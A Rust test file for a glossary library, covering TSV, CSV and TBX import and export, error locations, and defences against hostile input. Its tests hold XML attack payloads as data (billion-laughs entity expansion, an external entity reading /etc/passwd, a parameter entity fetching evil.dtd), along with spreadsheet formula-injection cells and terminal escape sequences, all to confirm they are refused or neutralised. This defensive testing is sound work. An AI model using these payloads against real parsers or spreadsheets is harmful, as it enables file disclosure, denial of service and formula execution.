//! Interchange formats: TSV, CSV and TBX round trips, positions of errors,
//! older TBX files and hostile XML.

#![allow(
    clippy::expect_used,
    reason = "test code: a failed expectation is a test failure with its message"
)]

use bianyi_glossary::{ErrorKind, Glossary, Lang, Status};

fn lang(s: &str) -> Lang {
    Lang::parse(s).expect("valid tag")
}

/// A glossary using every field, several languages and XML-special
/// characters.
const RICH: &str = r#"
[glossary]
source = "zh-Hant"
target = "en"

[[entry]]
id = "yann-lecun"
domain = "people"
note = "Meta's chief AI scientist until 2025 <&>\"'"
terms = [
  { lang = "en", text = "Yann LeCun", status = "preferred", pos = "properNoun", case_sensitive = true },
  { lang = "en", text = "Yan LeCun", status = "forbidden", note = "misspelling" },
  { lang = "fr", text = "Yann Le Cun", status = "admitted" },
  { lang = "zh-Hans", text = "杨立昆", status = "preferred" },
  { lang = "zh-TW", text = "楊立昆", status = "preferred" },
  { lang = "zh-Hant", text = "顏樂存", status = "admitted", note = "the article's spelling" },
]

[[entry]]
id = "r-and-d"
domain = "R&D <labs>"
terms = [
  { lang = "en", text = "R&D", status = "preferred", pos = "noun", case_sensitive = true },
  { lang = "en", text = "<R&D> \"lab\" 'x'", status = "admitted" },
  { lang = "zh-Hans", text = "研发", status = "preferred" },
  { lang = "zh-Hant", text = "研發", status = "preferred" },
]

[[entry]]
id = "alexandr-wang"
terms = [
  { lang = "en", text = "Alexandr Wang", status = "preferred", case_sensitive = true },
  { lang = "zh-Hant", text = "亞歷山大·王", status = "preferred" },
]
"#;

fn rich() -> Glossary {
    Glossary::from_toml(RICH).expect("valid")
}

fn location(e: &bianyi_glossary::Error) -> (u64, u64) {
    let l = e.location().expect("located");
    (l.line, l.column)
}

// ------------------------------------------------------------------- TBX

#[test]
fn toml_tbx_toml_round_trip() {
    let g = rich();
    let tbx = g.to_tbx();
    let back = Glossary::from_tbx(&tbx).expect("own TBX reads back");
    assert_eq!(back.to_toml(), g.to_toml(), "TBX was:\n{tbx}");
    assert_eq!(back.to_tbx(), tbx, "writing is deterministic");
}

#[test]
fn tbx_v2_martif_is_read() {
    let tbx = r#"<?xml version="1.0" encoding="UTF-8"?>
<martif type="TBX" xml:lang="en">
  <martifHeader><fileDesc><sourceDesc><p>MultiTerm export</p></sourceDesc></fileDesc></martifHeader>
  <text>
    <body>
      <termEntry id="c1">
        <descripGrp><descrip type="subjectField">people</descrip></descripGrp>
        <note>Chief AI scientist</note>
        <langSet xml:lang="zh-TW">
          <tig>
            <term>楊立昆</term>
            <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote>
          </tig>
          <ntig>
            <termGrp>
              <term> 顏樂存 </term>
              <termNote type="administrativeStatus">admittedTerm-admn-sts</termNote>
              <termNote type="partOfSpeech">noun</termNote>
            </termGrp>
            <note>the article's spelling</note>
          </ntig>
        </langSet>
        <langSet lang="en">
          <tig><term>Yann LeCun</term></tig>
          <tig><term>Yan LeCun</term><termNote type="normativeAuthorization">deprecatedTerm</termNote></tig>
        </langSet>
      </termEntry>
      <!-- no id: one is made from the English term -->
      <termEntry>
        <langSet xml:lang="zh-Hant"><tig><term>亞歷山大&#183;王</term></tig></langSet>
        <langSet xml:lang="en"><tig><term><![CDATA[Alexandr Wang]]></term></tig></langSet>
      </termEntry>
    </body>
  </text>
</martif>
"#;
    let g = Glossary::from_tbx(tbx).expect("valid v2");
    assert_eq!((g.source.as_ref(), g.target.as_ref()), (None, None));
    let ids: Vec<_> = g.entries.iter().map(|e| e.id.as_str()).collect();
    assert_eq!(ids, ["c1", "alexandr-wang"]);
    let e = &g.entries[0];
    assert_eq!(e.domain.as_deref(), Some("people"));
    assert_eq!(e.note.as_deref(), Some("Chief AI scientist"));
    let terms: Vec<_> = e
        .terms
        .iter()
        .map(|t| {
            (
                t.lang.as_str(),
                t.text.as_str(),
                t.status,
                t.part_of_speech.as_deref(),
                t.note.as_deref(),
            )
        })
        .collect();
    assert_eq!(
        terms,
        [
            ("zh-TW", "楊立昆", Status::Preferred, None, None),
            (
                "zh-TW",
                "顏樂存",
                Status::Admitted,
                Some("noun"),
                Some("the article's spelling")
            ),
            ("en", "Yann LeCun", Status::Preferred, None, None),
            ("en", "Yan LeCun", Status::Forbidden, None, None),
        ]
    );
    assert_eq!(g.entries[1].terms[0].text, "亞歷山大·王");
    assert_eq!(g.entries[1].terms[1].text, "Alexandr Wang");
}

#[test]
fn tbx_v3_from_another_tool_is_read() {
    // No bianyi instructions, a prefixed namespace, a termNoteGrp, a BOM.
    let tbx = "\u{feff}<?xml version=\"1.0\" encoding=\"UTF-8\"?>
<?xml-model href=\"TBX-Basic.rng\"?>
<t:tbx xmlns:t=\"urn:iso:std:iso:30042:ed-2\" type=\"TBX-Basic\" style=\"dca\" xml:lang=\"en\">
  <t:tbxHeader><t:fileDesc><t:sourceDesc><t:p>x</t:p></t:sourceDesc></t:fileDesc></t:tbxHeader>
  <t:text><t:body>
    <t:conceptEntry id=\"c7\">
      <t:langSec xml:lang=\"en\">
        <t:termSec>
          <t:term>avocado</t:term>
          <t:termNoteGrp><t:termNote type=\"administrativeStatus\">admittedTerm-admn-sts</t:termNote></t:termNoteGrp>
        </t:termSec>
      </t:langSec>
      <t:langSec xml:lang=\"zh-Hans\"><t:termSec><t:term>牛油果</t:term></t:termSec></t:langSec>
    </t:conceptEntry>
  </t:body></t:text>
</t:tbx>";
    let g = Glossary::from_tbx(tbx).expect("valid v3");
    let e = g.get("c7").expect("entry");
    assert_eq!(e.terms[0].status, Status::Admitted);
    assert!(!e.terms[0].case_sensitive);
    assert_eq!(e.terms[1].lang, lang("zh-Hans"));
}

/// Hostile documents: each refused as unsafe, at the document type
/// declaration, before any term is read.
/// Issue 20: a second DOCTYPE, or one after the root element, was
/// accepted; XML allows one, before the root. Refused where it stands.
#[test]
fn issue20_tbx_with_two_doctypes_is_refused() {
    let body = "<martif type=\"TBX\"><text><body><termEntry id=\"a\"><langSet xml:lang=\"en\">\
                <tig><term>x</term></tig></langSet></termEntry></body></text></martif>";
    let dtd = "<!DOCTYPE martif SYSTEM \"TBXcoreStructV02.dtd\">";
    let two = format!("<?xml version=\"1.0\"?>\n{dtd}\n{dtd}\n{body}");
    let e = Glossary::from_tbx(&two).expect_err("two DOCTYPEs");
    assert!(e.to_string().contains("a second DOCTYPE"), "{e}");
    assert_eq!(location(&e), (3, 1));
    let inside = format!(
        "<?xml version=\"1.0\"?>\n{}",
        body.replace("<text>", &format!("\n{dtd}<text>"))
    );
    let e = Glossary::from_tbx(&inside).expect_err("DOCTYPE in the root");
    assert!(e.to_string().contains("after the root element"), "{e}");
    assert_eq!(location(&e), (3, 1));
    // One, before the root: read as before.
    let one = format!("<?xml version=\"1.0\"?>\n{dtd}\n{body}");
    assert_eq!(
        Glossary::from_tbx(&one).expect("one DOCTYPE").entries.len(),
        1
    );
}

#[test]
fn tbx_hostile_documents_are_refused() {
    let body = "<martif type=\"TBX\"><text><body><termEntry id=\"a\"><langSet xml:lang=\"en\">\
                <tig><term>&x;</term></tig></langSet></termEntry></body></text></martif>";
    let billion_laughs = format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE martif [\n <!ENTITY x \"lol\">\n{}]>\n{body}",
        (1..10)
            .map(|i| format!(" <!ENTITY x{i} \"{}\">\n", "&x;".repeat(10)))
            .collect::<String>()
    );
    let external_entity = format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE martif [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n{body}"
    );
    let parameter_entity = format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE martif [<!ENTITY % p SYSTEM \"http://example.com/evil.dtd\"> %p;]>\n{body}"
    );
    let internal_subset = format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE martif [<!ELEMENT martif ANY>]>\n{}",
        body.replace("&x;", "x")
    );
    let external_dtd = format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE martif SYSTEM \"http://example.com/TBXcoreStructV02.dtd\">\n{}",
        body.replace("&x;", "x")
    );
    let cases = [
        ("billion laughs", billion_laughs.as_str(), "ENTITY"),
        ("external entity", external_entity.as_str(), "ENTITY"),
        ("parameter entity", parameter_entity.as_str(), "ENTITY"),
        ("internal subset", internal_subset.as_str(), "DOCTYPE"),
    ];
    for (name, doc, refused) in cases {
        let e = Glossary::from_tbx(doc).expect_err(name);
        match e.kind() {
            ErrorKind::UnsafeXml { what } => assert_eq!(what, refused, "{name}"),
            other => panic!("{name}: expected UnsafeXml, got {other:?}"),
        }
        assert_eq!(location(&e), (2, 1), "{name}: refused at the declaration");
    }
    // A plain external DTD, as v2 exports name: ignored, never fetched.
    let g = Glossary::from_tbx(&external_dtd).expect("external DTD ignored");
    assert_eq!(g.entries.len(), 1);
    // …and it declares nothing: an entity it might define stays unknown.
    let with_entity = external_dtd.replace(">x<", ">&x;<");
    let e = Glossary::from_tbx(&with_entity).expect_err("unknown entity");
    assert!(matches!(e.kind(), ErrorKind::Syntax { .. }), "{e}");
}

#[test]
fn tbx_entities_other_than_the_predefined_ones_are_errors() {
    let doc = |term: &str| {
        format!(
            "<tbx type=\"TBX-Basic\">\n<text><body><conceptEntry id=\"a\"><langSec xml:lang=\"en\">\n\
             <termSec><term>{term}</term></termSec></langSec></conceptEntry></body></text></tbx>\n"
        )
    };
    let ok = Glossary::from_tbx(&doc(
        "&lt;a&gt; &amp; &quot;b&quot; &apos;c&apos; &#x4E2D;&#25991;",
    ))
    .expect("valid");
    assert_eq!(ok.entries[0].terms[0].text, "<a> & \"b\" 'c' 中文");
    // Table: term, message part, column (all on line 3).
    let cases: &[(&str, &str, u64)] = &[
        ("x&nbsp;y", "unknown entity &nbsp;", 17),
        ("&#1;", "not a character", 16),
        ("&#xFFFE;", "not a character", 16),
        ("a\u{1}b", "U+0001", 17),
        ("a & b", "", 18),
    ];
    for &(term, message, column) in cases {
        let e = Glossary::from_tbx(&doc(term)).expect_err(term);
        assert!(matches!(e.kind(), ErrorKind::Syntax { .. }), "{term}: {e}");
        assert!(e.to_string().contains(message), "{term}: {e}");
        assert_eq!(location(&e), (3, column), "{term}: {e}");
    }
}

#[test]
fn tbx_errors_are_located() {
    // Table: document, message part, line, column.
    let cases: &[(&str, &str, u64, u64)] = &[
        ("<tbx>\n<text><body>\n</bdy></text></tbx>", "", 3, 1),
        ("<tbx>\n  <text>\n", "not closed", 2, 3),
        ("<html/>", "expected <tbx>", 1, 1),
        ("", "no root element", 1, 1),
        (
            "<tbx><text><body>\n<conceptEntry id=\"a\">\n  <langSec xml:lang=\"zh-\"><termSec><term>x</term></termSec></langSec>\n</conceptEntry></body></text></tbx>",
            "invalid language tag “zh-”",
            3,
            3,
        ),
        (
            "<tbx><text><body>\n<conceptEntry id=\"a\"><langSec>\n<termSec><term>x</term></termSec></langSec>\n</conceptEntry></body></text></tbx>",
            "missing field `xml:lang`",
            2,
            22,
        ),
        (
            "<tbx><text><body><conceptEntry id=\"a\"><langSec xml:lang=\"en\"><termSec>\n  <term>x</term>\n  <termNote type=\"administrativeStatus\">maybe</termNote>\n</termSec></langSec></conceptEntry></body></text></tbx>",
            "invalid administrativeStatus “maybe”",
            3,
            3,
        ),
        (
            "<tbx><text><body><conceptEntry id=\"a\"><langSec xml:lang=\"en\">\n<termSec><term>  </term></termSec></langSec></conceptEntry></body></text></tbx>",
            "invalid text",
            2,
            10,
        ),
        (
            "<tbx><text><body>\n<conceptEntry id=\"a\"/>\n<conceptEntry id=\"a\"/>\n</body></text></tbx>",
            "duplicate entry id",
            3,
            1,
        ),
    ];
    for &(doc, message, line, column) in cases {
        let e = Glossary::from_tbx(doc).expect_err(doc);
        assert!(e.to_string().contains(message), "{doc}: {e}");
        assert_eq!(location(&e), (line, column), "{doc}: {e}");
    }
}

// ------------------------------------------------------------ TSV and CSV

#[test]
fn tsv_round_trip_keeps_pairs_and_comments() {
    let tsv = "\u{feff}# OmegaT glossary\n顏樂存\tYann LeCun\tMeta\n\n亞歷山大·王\tAlexandr Wang\n";
    let (zh, en) = (lang("zh-Hant"), lang("en"));
    let g = Glossary::from_tsv(tsv, &zh, &en).expect("valid");
    let out = g.to_tsv(&zh, &en);
    assert_eq!(
        out,
        "# zh-Hant\ten\tcomment\n亞歷山大·王\tAlexandr Wang\n顏樂存\tYann LeCun\tMeta\n"
    );
    let again = Glossary::from_tsv(&out, &zh, &en).expect("reads back");
    assert_eq!(again.to_toml(), g.to_toml());
}

#[test]
fn tsv_export_of_a_rich_glossary() {
    let out = rich().to_tsv(&lang("zh-Hant"), &lang("en"));
    // zh-TW is close to zh-Hant; admitted and forbidden source terms are
    // left out; the best English term is the preferred one.
    assert_eq!(
        out,
        "# zh-Hant\ten\tcomment\n\
         亞歷山大·王\tAlexandr Wang\n\
         研發\tR&D\n\
         楊立昆\tYann LeCun\tMeta's chief AI scientist until 2025 <&>\"'\n"
    );
    let simplified = rich().to_csv(&lang("zh-Hans"), &lang("en"));
    assert_eq!(
        simplified,
        "zh-Hans,en,note\n研发,R&D,\n杨立昆,Yann LeCun,\"Meta's chief AI scientist until 2025 <&>\"\"'\"\n"
    );
}

#[test]
fn tsv_errors_are_located() {
    let (zh, en) = (lang("zh-Hant"), lang("en"));
    let cases: &[(&str, &str, u64, u64)] = &[
        ("# c\n顏樂存\n", "missing field `target`", 2, 4),
        ("a\tb\n\tb\n", "missing field `source`", 2, 1),
        ("a\tb\tc\textra\n", "at most 3", 1, 7),
        ("a\tb\n\n顏樂存\tY\u{7}\n", "invalid text", 3, 5),
    ];
    for &(input, message, line, column) in cases {
        let e = Glossary::from_tsv(input, &zh, &en).expect_err(input);
        assert!(e.to_string().contains(message), "{input:?}: {e}");
        assert_eq!(location(&e), (line, column), "{input:?}: {e}");
    }
}

#[test]
fn csv_round_trip_and_header_languages() {
    let g = rich();
    let (zh, en) = (lang("zh-Hant"), lang("en"));
    let csv = g.to_csv(&zh, &en);
    let back = Glossary::from_csv(&csv, None).expect("the header names the languages");
    assert_eq!(back.source, Some(zh.clone()));
    assert_eq!(back.to_csv(&zh, &en), csv);
    // A word header: languages from the caller.
    let words = "\u{feff}source,target,comment\r\n顏樂存,Yann LeCun,\"a, b\"\r\n";
    let g = Glossary::from_csv(words, Some((&zh, &en))).expect("valid");
    assert_eq!(g.entries[0].note.as_deref(), Some("a, b"));
    let e = Glossary::from_csv(words, None).expect_err("no languages");
    assert!(matches!(e.kind(), ErrorKind::MissingField { .. }), "{e}");
    // At the header, just after the byte order mark.
    assert_eq!(e.location().map(|l| (l.line, l.byte)), Some((1, 3)));
    // Bad cells, located.
    let e = Glossary::from_csv("zh-Hant,en\nx,\"\"\n", None).expect_err("empty target");
    assert_eq!(location(&e), (2, 3), "{e}");
    let e = Glossary::from_csv("zh-Hant,en\nx,y,z,w\n", None).expect_err("four columns");
    assert_eq!(location(&e), (2, 7), "{e}");
}

// ------------------------------------------------- hostile cells (issue 20)

/// Terms a spreadsheet would run as formulas, and a note with escape
/// sequences and a NUL.
const FORMULAS: &str = r#"
[glossary]
source = "zh-Hans"
target = "en"

[[entry]]
id = "a"
note = "-2+3 \u001b]0;pwned\u0007\u001b[2J\u0000end"
terms = [
  { lang = "zh-Hans", text = "=HYPERLINK(\"http://x\",\"y\")" },
  { lang = "en", text = "@SUM(A1)" },
]

[[entry]]
id = "b"
terms = [
  { lang = "zh-Hans", text = "+1" },
  { lang = "en", text = "'=already quoted" },
]

[[entry]]
id = "c"
terms = [
  { lang = "zh-Hans", text = "-ism" },
  { lang = "en", text = "it's fine" },
]
"#;

#[test]
fn issue20_csv_and_tsv_cells_are_no_formulas_and_read_back_the_same() {
    let g = Glossary::from_toml(FORMULAS).expect("valid");
    let (zh, en) = (lang("zh-Hans"), lang("en"));
    let csv = g.to_csv(&zh, &en);
    assert_eq!(
        csv,
        "zh-Hans,en,note\n\
         \"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",'@SUM(A1),'-2+3  ]0;pwned  [2J end\n\
         '+1,''=already quoted,\n\
         '-ism,it's fine,\n"
    );
    let tsv = g.to_tsv(&zh, &en);
    assert_eq!(
        tsv,
        "# zh-Hans\ten\tcomment\n\
         '=HYPERLINK(\"http://x\",\"y\")\t'@SUM(A1)\t'-2+3  ]0;pwned  [2J end\n\
         '+1\t''=already quoted\n\
         '-ism\tit's fine\n"
    );
    // Every cell of every line: no formula, no control character.
    for line in csv.lines().chain(tsv.lines()) {
        assert!(
            !line.chars().any(|c| c.is_control() && c != '\t'),
            "{line:?}"
        );
    }
    // Read back: the same terms; the note without its control characters.
    let mut want = g.clone();
    want.entries[0].note = Some("-2+3  ]0;pwned  [2J end".into());
    let back = Glossary::from_csv(&csv, None).expect("reads back");
    // (Ids are made again from the terms: compare the rows in any order.)
    let rows = |text: String| {
        let mut v: Vec<String> = text.lines().map(str::to_string).collect();
        v.sort();
        v
    };
    assert_eq!(rows(back.to_csv(&zh, &en)), rows(csv.clone()));
    assert_eq!(rows(back.to_tsv(&zh, &en)), rows(tsv.clone()));
    let back_tsv = Glossary::from_tsv(&tsv, &zh, &en).expect("reads back");
    assert_eq!(back_tsv.to_toml(), back.to_toml());
    for (a, b) in back.entries.iter().zip(&want.entries) {
        let texts =
            |e: &bianyi_glossary::Entry| e.terms.iter().map(|t| t.text.clone()).collect::<Vec<_>>();
        assert_eq!(texts(a), texts(b));
        assert_eq!(a.note, b.note);
    }
}

#[test]
fn issue20_formulas_kept_on_request() {
    let g = Glossary::from_toml(FORMULAS).expect("valid");
    let (zh, en) = (lang("zh-Hans"), lang("en"));
    let csv = g.to_csv_with(&zh, &en, bianyi_glossary::Formulas::Keep);
    assert!(
        csv.contains("\n+1,'=already quoted,\n-ism,it's fine,\n"),
        "{csv}"
    );
    let tsv = g.to_tsv_with(&zh, &en, bianyi_glossary::Formulas::Keep);
    assert!(
        tsv.contains("\n+1\t'=already quoted\n-ism\tit's fine\n"),
        "{tsv}"
    );
    // Read back, a cell that begins with ' and a formula character loses
    // the ' (documented); the others are the same.
    let back = Glossary::from_csv(&csv, None).expect("reads back");
    let en_terms: Vec<&str> = back
        .entries
        .iter()
        .flat_map(|e| &e.terms)
        .filter(|t| t.lang == en)
        .map(|t| t.text.as_str())
        .collect();
    assert_eq!(en_terms, ["@SUM(A1)", "=already quoted", "it's fine"]);
}
